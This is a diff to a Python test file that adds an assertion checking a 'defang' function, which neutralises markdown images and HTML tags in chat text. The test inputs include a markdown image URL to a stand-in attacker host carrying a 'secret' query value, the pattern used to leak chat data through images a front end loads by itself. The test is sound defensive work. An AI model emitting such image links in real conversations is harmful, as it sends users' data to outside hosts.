@@ -93,4 +93,5 @@ def test_earlier_turns_are_condensed_by_the_model_where_there_is_one(dataset: Da
 
 def test_nothing_that_a_front_end_fetches_by_itself_is_left_in_a_chat() -> None:
     assert defang("see ![x](https://evil.example/?q=secret)") == "see [x](https://evil.example/?q=secret)"
+    assert defang("!![x](u) ! ![y](u)") == "[x](u) [y](u)", "what is left makes no new one"
     assert defang("<img src=//evil> 1 < 2 </b> <!-- x") == "&lt;img src=//evil> 1 < 2 &lt;/b> &lt;!-- x"
